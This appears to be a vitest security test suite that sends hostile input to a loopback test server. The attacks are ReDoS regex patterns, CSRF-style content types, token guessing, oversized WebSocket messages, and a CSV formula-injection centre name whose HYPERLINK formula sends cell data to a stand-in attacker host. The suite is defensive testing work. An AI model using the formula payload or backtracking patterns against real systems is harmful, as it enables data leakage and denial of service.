/**
 * Hostile and careless input at a running server, sent for real over
 * loopback: each attack class the way an outsider (or a broken client) would
 * send it, with /healthz watched meanwhile. Timings are printed, never
 * asserted; what is asserted is the answer (a clear 4xx, a close code), that
 * the server keeps answering, and that nothing is stored from bad input.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultCollectorLimits, defaultFailedAuthLimits, parseTopology } from '../../collector/index.js';
import { silenceMatches } from '../../api/alerts/silences.js';
import { parseRfc4180 } from '../helpers/rfc4180.js';
import { HealthWatch, printAttackSummary, requestFrom, type AttackFigures } from '../helpers/hostile.js';
import { startTestServer, testTopology, type TestServer } from '../helpers/stack.js';
import { RawClient } from '../helpers/ws-client.js';

// Centre ids long enough for a backtracking regex to take forever on them (`[a-z][a-z0-9-]*` allows it).
const LONG_A = `${'a'.repeat(30)}-x`;
const CENTRES = [LONG_A, 'bravo'];
const base = testTopology(CENTRES, '127.0.91');
// A centre name a spreadsheet would run as a formula.
const FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")';
const yaml = base.yaml.replace(`name: Centre ${LONG_A}`, `name: '${FORMULA_NAME}'`) +
  'alerts:\n  external_url: https://noc.example\n  rules:\n    probe_silent: { for: 60s }\n';
const topology = parseTopology(yaml, 'hostile.yaml');

const figures: Record<string, AttackFigures> = {};
const slow = (b: { burst: number }) => ({ burst: b.burst, perSecond: 0.0001 });
const AUTH_LIMITS = {
  perAddress: slow(defaultFailedAuthLimits.perAddress),
  perCredential: slow(defaultFailedAuthLimits.perCredential),
  global: slow(defaultFailedAuthLimits.global),
};
let slowestAlertsMs = 0;
let slowestMatcherMs = 0;
let server: TestServer;

beforeAll(async () => {
  // The production bursts for every failed-credential budget, with next to no refill, so what the
  // budgets allow does not depend on how fast a loaded machine sends the attack.
  server = await startTestServer(topology, { failedAuthLimits: AUTH_LIMITS, rateLimit: { perSecond: 50, burst: 200 } });
  await server.alerts.stop(); // evaluated on demand below (GET /v1/alerts), not on the 15 s timer
});
afterAll(async () => {
  await server?.stop();
  printAttackSummary('hostile input: attacks per class and /healthz meanwhile', figures, {
    'slowest single matcher (RE2, hostile pattern, 1001-character value)': `${slowestMatcherMs.toFixed(2)} ms`,
    'slowest GET /v1/alerts with every hostile silence stored (its ClickHouse queries included)': `${slowestAlertsMs.toFixed(1)} ms`,
  });
});

const op = () => ({ authorization: `Bearer ${base.operatorToken}` });

async function call(method: string, path: string, body?: unknown, from?: string): Promise<{ status: number; headers: Record<string, unknown>; json: Record<string, unknown> }> {
  const r = await requestFrom(`${server.url}${path}`, {
    method, localAddress: from,
    headers: { ...op(), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  let json: Record<string, unknown> = {};
  try {
    json = JSON.parse(r.text) as Record<string, unknown>;
  } catch {
    json = { text: r.text };
  }
  return { status: r.status, headers: r.headers, json };
}

describe('silence matchers: a backtracking pattern cannot freeze the server', () => {
  // Exponential in a backtracking engine on a 32-character value of a's; linear in RE2.
  const EVIL = ['(a+)+', '(a|aa)+', '(a|a)+', '(a*)*b', '((a+)+)+', '(.*a){25}', '(a|a?)+', '([a-z]+)*-y'];

  it('silences with nested quantifiers are stored and evaluated; /v1/alerts and /healthz keep answering', async () => {
    const watch = new HealthWatch(server.url);
    let attacks = 0;
    for (const pattern of EVIL) {
      const created = await call('POST', '/v1/alerts/silences', {
        matchers: [{ name: 'alertname', value: 'ProbeSilent' }, { name: 'centre', value: pattern, isRegex: true }],
        duration: '1h', comment: `hostile ${pattern}`,
      });
      attacks++;
      expect(created.status, JSON.stringify(created.json)).toBe(201);
    }
    // Evaluation: every alert's labels against every silence.
    for (let i = 0; i < 5; i++) {
      const t0 = performance.now();
      const alerts = await call('GET', '/v1/alerts');
      slowestAlertsMs = Math.max(slowestAlertsMs, performance.now() - t0);
      attacks++;
      expect(alerts.status).toBe(200);
      const silent = (alerts.json.alerts as { labels: Record<string, string>; silencedBy: string[] }[]).find((a) => a.labels.centre === LONG_A);
      expect(silent, 'the never-seen centre is shown as ProbeSilent').toBeDefined();
    }
    // And a silence tick on the server's own evaluator path.
    expect(await server.alerts.evaluate(Date.now())).toBeTruthy();
    const health = await watch.stop();
    expect(health.failures).toBe(0);
    figures['silence regex (backtracking)'] = { attacks, health };
  });

  it('the matcher is linear: a 1000-character value against each pattern (measured, printed)', () => {
    const value = { centre: 'a'.repeat(1000) + '!' };
    for (const pattern of EVIL) {
      const t0 = performance.now();
      expect(silenceMatches([{ name: 'centre', value: pattern, isRegex: true, isEqual: true }], value)).toBe(false);
      slowestMatcherMs = Math.max(slowestMatcherMs, performance.now() - t0);
    }
  });

  it('syntax that needs backtracking (backreferences, lookaround) is refused naming the matcher', async () => {
    for (const pattern of ['(a)\\1', 'a(?=b)', 'a(?<!b)']) {
      const r = await call('POST', '/v1/alerts/silences', {
        matchers: [{ name: 'centre', value: pattern, isRegex: true }], duration: '1h', comment: 'x',
      });
      expect(r.status).toBe(400);
      expect(String(r.json.reason)).toMatch(/^matchers\[0\]\.value: not a valid regular expression \(RE2/);
    }
  });
});

describe('response headers', () => {
  it('every kind of answer carries CSP with frame-ancestors, X-Frame-Options, nosniff and Referrer-Policy; API and /metrics are no-store', async () => {
    const cases: [string, Record<string, string>, boolean][] = [
      ['/', {}, false],
      ['/regulator.html', {}, false],
      ['/healthz', {}, false],
      ['/v1/centres', op(), true],
      ['/v1/status', op(), true],
      ['/v1/status', {}, true], // 401 too
      ['/v1/nope', op(), true], // 404 too
      ['/metrics', op(), true],
      ['/v1/sla/public-key', {}, true],
    ];
    for (const [path, headers, noStore] of cases) {
      const r = await requestFrom(`${server.url}${path}`, { headers });
      const csp = String(r.headers['content-security-policy']);
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("default-src 'self'");
      expect(r.headers['x-frame-options'], path).toBe('DENY');
      expect(r.headers['x-content-type-options'], path).toBe('nosniff');
      expect(r.headers['referrer-policy'], path).toBe('no-referrer');
      if (noStore) expect(r.headers['cache-control'], path).toBe('no-store');
    }
  });
});

describe('writes only as application/json', () => {
  it('a form post, text/plain or a body without Content-Type is answered 415, and nothing is created', async () => {
    const watch = new HealthWatch(server.url);
    const body = JSON.stringify({ matchers: [{ name: 'alertname', value: 'LinkDown' }], duration: '1h', comment: 'csrf' });
    const before = ((await call('GET', '/v1/alerts/silences')).json.silences as unknown[]).length;
    let attacks = 0;
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonx', undefined]) {
      for (const path of ['/v1/alerts/silences', '/v1/sla/maintenance', '/v1/ingest']) {
        const r = await requestFrom(`${server.url}${path}`, {
          method: 'POST', body, headers: { ...op(), ...(type ? { 'content-type': type } : {}) },
        });
        attacks++;
        expect(r.status, `${path} ${type}`).toBe(415);
        expect(JSON.parse(r.text)).toMatchObject({ error: 'unsupported_media_type' });
      }
    }
    expect(((await call('GET', '/v1/alerts/silences')).json.silences as unknown[]).length).toBe(before);
    // A bodyless POST needs no Content-Type; application/json with parameters is JSON.
    const charset = await requestFrom(`${server.url}/v1/alerts/silences`, { method: 'POST', body, headers: { ...op(), 'content-type': 'Application/JSON; charset=utf-8' } });
    expect(charset.status).toBe(201);
    figures['content type (CSRF-style writes)'] = { attacks, health: await watch.stop() };
  });
});

describe('CSV formula injection', () => {
  it('a centre name starting with "=" reaches the regulator CSV neutralised, and the file is still RFC 4180', async () => {
    const month = new Date().toISOString().slice(0, 7);
    const r = await requestFrom(`${server.url}/v1/sla/months/${month}?format=csv`, { headers: { authorization: `Bearer ${base.regulatorToken}` } });
    expect(r.status).toBe(200);
    const records = parseRfc4180(r.text);
    const header = records[0]!;
    const names = records.slice(1).map((rec) => rec[header.indexOf('name')]!);
    expect(names).toContain(`'${FORMULA_NAME}`);
    for (const record of records) for (const field of record) expect(field, 'no field starts a formula').not.toMatch(/^[=+@\t\r]/);
    figures['CSV formula injection'] = { attacks: 1, health: { samples: 0, p50Ms: NaN, p99Ms: NaN, maxMs: NaN, failures: 0 }, note: 'static: no load' };
  });
});

describe('failed credentials: limited per address, per credential and in total', () => {
  it('guesses spread over 100 loopback addresses hit the global budget: 429 with Retry-After, and a known operator still gets in', async () => {
    // The operator has authenticated from 127.0.0.1 before (above): that address is exempt from the global budget.
    const watch = new HealthWatch(server.url);
    const statuses: number[] = [];
    let retryAfter: unknown;
    for (let i = 0; i < 300; i++) {
      const from = `127.0.92.${(i % 100) + 2}`;
      const r = await requestFrom(`${server.url}/v1/status`, { localAddress: from, headers: { authorization: `Bearer guess-${i}` } });
      statuses.push(r.status);
      if (r.status === 429) retryAfter ??= r.headers['retry-after'];
    }
    const limited = statuses.filter((s) => s === 429).length;
    expect(statuses.filter((s) => s === 401).length).toBe(AUTH_LIMITS.global.burst);
    expect(limited).toBeGreaterThan(0);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
    expect((await call('GET', '/v1/status')).status).toBe(200);
    figures['token guessing, HTTP, 100 addresses'] = { attacks: 300, health: await watch.stop(), note: `${limited} answered 429` };
  });

  it('one address guessing is limited by its own budget; the same wrong token from many addresses by the credential budget', async () => {
    let limited = 0;
    for (let i = 0; i < defaultFailedAuthLimits.perAddress.burst + 5; i++) {
      const r = await requestFrom(`${server.url}/v1/centres`, { localAddress: '127.0.93.2', headers: { authorization: `Bearer one-address-${i}` } });
      if (r.status === 429) {
        limited++;
        expect(JSON.parse(r.text).reason).toMatch(/from this address|on this server/);
      }
    }
    expect(limited).toBeGreaterThan(0);
  });

  it('probe hellos are attempts too: guessing a centre\'s token over WebSocket is closed 4429 once the budget is spent', async () => {
    const watch = new HealthWatch(server.url);
    const codes: number[] = [];
    for (let i = 0; i < 40; i++) {
      const client = await RawClient.open(server.wsUrl, { localAddress: '127.0.94.2' });
      client.send({ type: 'hello', centre: 'bravo', token: `guess-${i}`, version: 'x' });
      const reply = await client.next<{ code: string }>();
      codes.push((await client.waitClosed()).code);
      expect(['bad_token', 'rate_limited']).toContain(reply.code);
    }
    expect(codes).toContain(4429);
    expect(codes.filter((c) => c === 4401).length).toBeLessThanOrEqual(AUTH_LIMITS.perAddress.burst);
    figures['token guessing, WebSocket hellos'] = { attacks: 40, health: await watch.stop(), note: `${codes.filter((c) => c === 4429).length} closed 4429` };
  });
});

describe('unauthenticated WebSockets: a budget per address and in total, only a hello-sized message read', () => {
  it('megabyte messages before hello are not parsed: the connection is closed 1009; /healthz keeps answering', async () => {
    const watch = new HealthWatch(server.url);
    const big = JSON.stringify({ type: 'batch', batchId: 'b', samples: Array.from({ length: 20_000 }, (_, i) => ({ trainId: `t${i}`, dst: 'bravo', pad: 'x'.repeat(60) })) });
    expect(big.length).toBeGreaterThan(1_000_000);
    let attacks = 0;
    for (let i = 0; i < 22; i++) {
      const client = await RawClient.open(server.wsUrl, { localAddress: `127.0.95.${(i % 4) + 2}` });
      client.send(big);
      const reply = await client.next<{ code: string }>();
      expect(reply.code).toBe('too_large');
      expect((await client.waitClosed()).code).toBe(1009);
      attacks++;
    }
    figures['pre-auth megabyte messages'] = { attacks, health: await watch.stop() };
  });

  it('connections that never say hello: the ninth from one address is refused 429 at the upgrade; closing one frees a place', async () => {
    const watch = new HealthWatch(server.url);
    const idle: RawClient[] = [];
    for (let i = 0; i < defaultCollectorLimits.maxUnauthenticatedPerAddress; i++) idle.push(await RawClient.open(server.wsUrl, { localAddress: '127.0.96.2' }));
    await expect(RawClient.open(server.wsUrl, { localAddress: '127.0.96.2' })).rejects.toThrow(/429/);
    // Another address still gets in, and says hello: an authenticated connection leaves the budget.
    const other = await RawClient.open(server.wsUrl); // from 127.0.0.1, which has authenticated before: the global budget the guessing above spent does not apply
    // (Not bravo: the hello-guessing test above spent bravo's credential budget.)
    other.send({ type: 'hello', centre: LONG_A, token: base.tokens[LONG_A], version: 'x' });
    expect(await other.next()).toMatchObject({ type: 'plan' });
    idle[0]!.close();
    await idle[0]!.waitClosed();
    const again = await waitForOpen('127.0.96.2');
    for (const c of [...idle.slice(1), other, again]) c.close();
    figures['pre-auth idle connections'] = { attacks: idle.length + 1, health: await watch.stop() };
  });
});

/** The server frees the place when it sees the close; poll until it has. */
async function waitForOpen(from: string): Promise<RawClient> {
  for (let i = 0; ; i++) {
    try {
      return await RawClient.open(server.wsUrl, { localAddress: from });
    } catch (error) {
      if (i > 100) throw error;
      await new Promise((r) => setTimeout(r, 100));
    }
  }
}
